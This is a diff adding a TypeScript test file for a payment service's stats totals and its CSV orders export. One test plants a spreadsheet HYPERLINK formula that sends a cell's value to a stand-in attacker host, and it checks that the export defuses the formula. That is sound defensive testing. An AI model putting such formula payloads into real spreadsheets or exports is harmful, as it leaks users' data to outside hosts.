@@ -1,0 +1,170 @@
+// The money a merchant hands an accountant, over HTTP through the companion and the sandbox:
+// the period's captured, refunded and net per currency in GET /api/stats, and every order the
+// list's filters match as a CSV file (GET /api/orders/export).
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { paidOrder as ledgerPaidOrder } from '../../ledger/testing/contract.js';
+import { card } from '../test/cards.js';
+import { createStack, eventually, payBody } from '../test/stack.js';
+import type { Stack } from '../test/stack.js';
+
+let stack: Stack;
+beforeEach(async () => {
+  stack = await createStack({ served: true });
+});
+afterEach(async () => {
+  await stack.close();
+});
+
+async function order(method: 'purchase' | 'auth', amount: number, extra: Record<string, unknown> = {}, outcome: 'success' | 'rejected' = 'success'): Promise<string> {
+  const session = await stack.openSession({ method, amount, ...extra });
+  const answer = await (await stack.pay(session.id, payBody({ card: card(outcome), ...(extra.customer ? { customer: extra.customer } : {}) }))).json();
+  expect(answer.status, JSON.stringify(answer)).toBe(outcome === 'success' ? 'success' : 'failure');
+  return session.order_id;
+}
+
+const operate = (orderId: string, action: 'capture' | 'refund', amount: number) =>
+  stack.json('POST', `/api/orders/${orderId}/${action}`, 200, { admin: true, body: { amount }, headers: { 'Idempotency-Key': `${orderId}-${action}-${amount}` } });
+
+/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const char = text[i]!;
+    if (quoted && char === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (char === '"') {
+      quoted = !quoted;
+    } else if (!quoted && char === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else {
+      cell += char;
+    }
+  }
+  expect(row.length + cell.length, 'the file ends with CRLF').toBe(0);
+  return rows;
+}
+
+async function exported(query = ''): Promise<Record<string, string>[]> {
+  const response = await stack.request('GET', `/api/orders/export${query}`, { admin: true });
+  const bytes = new Uint8Array(await response.arrayBuffer());
+  const text = new TextDecoder().decode(bytes);
+  expect(response.status, text).toBe(200);
+  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
+  expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
+  // UTF-8's byte order mark, for Excel (the decoder drops it).
+  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const [header, ...rows] = parseCsv(text);
+  return rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]!])));
+}
+
+describe('money in GET /api/stats', () => {
+  it('adds up captured, refunded and net per currency: reserves and declines are not money', async () => {
+    const tea = await order('purchase', 1010);
+    await operate(tea, 'refund', 300);
+    const hotel = await order('auth', 5000);
+    await operate(hotel, 'capture', 3000);
+    await operate(hotel, 'refund', 1000);
+    await order('auth', 9000);
+    await order('purchase', 7000, {}, 'rejected');
+    await order('purchase', 2000, { currency: 'USD' });
+    const stats = await stack.json('GET', '/api/stats', 200, { admin: true });
+    expect(stats.money).toEqual([
+      { currency: 'UAH', captured: 1010 + 3000, refunded: 1300, net: 2710 },
+      { currency: 'USD', captured: 2000, refunded: 0, net: 2000 },
+    ]);
+    // A period before them holds none of it.
+    const before = await stack.json('GET', `/api/stats?to=${new Date(Date.now() - 3_600_000).toISOString()}`, 200, { admin: true });
+    expect(before.money).toEqual([]);
+  });
+});
+
+describe('GET /api/orders/export', () => {
+  it('writes each order with its money in minor units and decimals, filtered as the list is', async () => {
+    const tea = await order('purchase', 1010, { customer: { fname: 'Олена', lname: 'Коваль', email: 'o.koval@example.com', phone: '+380501234567' } });
+    await operate(tea, 'refund', 300);
+    const hotel = await order('auth', 5000);
+    await operate(hotel, 'capture', 3000);
+    const declined = await order('purchase', 7000, {}, 'rejected');
+    // A currency without decimals (not one the sandbox's project takes: straight into the ledger).
+    const yen = (await ledgerPaidOrder(stack.ledger, { orderId: 'yen-1', amount: 500, currency: 'JPY' })).orderId;
+
+    const rows = await exported();
+    expect(rows.map((row) => row.order_id)).toEqual([yen, declined, hotel, tea]);
+    expect(rows.find((row) => row.order_id === tea)).toMatchObject({
+      status: 'success', method: 'purchase', currency: 'UAH', amount: '1010', amount_decimal: '10.10', captured: '1010', refunded: '300', net: '710', net_decimal: '7.10',
+      customer_email: 'o.koval@example.com', customer_name: 'Олена Коваль', held: 'false',
+    });
+    expect(rows.find((row) => row.order_id === hotel)).toMatchObject({ method: 'auth', amount: '5000', captured: '3000', captured_decimal: '30.00', refunded: '0', net: '3000' });
+    expect(rows.find((row) => row.order_id === declined)).toMatchObject({ status: 'failure', captured: '0', net: '0' });
+    expect(rows.find((row) => row.order_id === yen)).toMatchObject({ amount: '500', amount_decimal: '500' });
+    // Never the card number: the mask only.
+    for (const row of rows.filter((row) => row.card)) expect(row.card).toMatch(/^\d{6}\*+\d{4}$/);
+
+    // The file adds up to the overview's money.
+    const stats = await stack.json('GET', '/api/stats', 200, { admin: true });
+    const uah = rows.filter((row) => row.currency === 'UAH');
+    expect(uah.reduce((sum, row) => sum + Number(row.net), 0)).toBe(stats.money.find((money: { currency: string }) => money.currency === 'UAH').net);
+
+    expect((await exported('?status=success&currency=UAH&amount=1010')).map((row) => row.order_id)).toEqual([tea]);
+    expect((await exported('?email=O.Koval@example.com')).map((row) => row.order_id)).toEqual([tea]);
+    expect(await exported(`?created_from=${encodeURIComponent(new Date(Date.now() + 60_000).toISOString())}`)).toEqual([]);
+  });
+
+  it('keeps customers’ text as text: quoted, and never run as a formula', async () => {
+    const name = '=HYPERLINK("https://evil.example/?q="&A1, "a, b")';
+    const id = await order('purchase', 1010, { customer: { fname: name, lname: '+1', email: 'x@example.com', phone: '+380501234567' } });
+    const response = await stack.request('GET', '/api/orders/export', { admin: true });
+    const text = await response.text();
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1, ""a, b"") +1"`);
+    const [row] = parseCsv(text).slice(1);
+    expect(row).toContain(id);
+  });
+
+  it('pages through the whole ledger, every order once, newest first', async () => {
+    const made: string[] = [];
+    for (let i = 0; i < 450; i++) made.push((await ledgerPaidOrder(stack.ledger, { orderId: `bulk-${String(i).padStart(3, '0')}`, amount: 100 + i, currency: 'UAH' })).orderId);
+    const rows = await exported('?status=success');
+    expect(rows).toHaveLength(450);
+    expect(new Set(rows.map((row) => row.order_id)).size).toBe(450);
+    expect(rows.map((row) => row.order_id).sort()).toEqual([...made].sort());
+    const times = rows.map((row) => Date.parse(row.created_at!));
+    expect(times).toEqual([...times].sort((a, b) => b - a));
+  });
+
+  it('cuts the download short when the ledger fails after the first page, and says why in the log', async () => {
+    for (let i = 0; i < 201; i++) await ledgerPaidOrder(stack.ledger, { orderId: `cut-${String(i).padStart(3, '0')}` });
+    const { listOrders } = stack.ledger;
+    // The second page's read fails: the answer and its first page are on their way already.
+    Object.assign(stack.ledger, { listOrders: (query: Parameters<typeof listOrders>[0]) => (query?.cursor ? Promise.reject(new Error('disk I/O error')) : listOrders(query)) });
+    const response = await stack.request('GET', '/api/orders/export', { admin: true });
+    expect(response.status).toBe(200);
+    await expect(response.text()).rejects.toThrow();
+    await eventually(() => expect(stack.logs.join('\n')).toContain('the orders export stopped: the ledger could not be read'));
+  });
+
+  it('is the merchant’s only, and refuses what the list refuses and paging with 400 naming the field', async () => {
+    expect((await stack.request('GET', '/api/orders/export')).status).toBe(401);
+    for (const [query, field] of [
+      ['?limit=10', 'limit'],
+      ['?cursor=abc', 'cursor'],
+      ['?status=paid', 'status'],
+      ['?currency=UAH', 'currency'],
+      ['?created_from=yesterday', 'created_from'],
+      ['?created_from=2030-01-02T00:00:00Z&created_to=2030-01-01T00:00:00Z', 'created_to'],
+    ] as const) {
+      const problem = await stack.json('GET', `/api/orders/export${query}`, 400, { admin: true });
+      expect(Object.keys(problem.error.fields), query).toContain(field);
+    }
+  });
+});
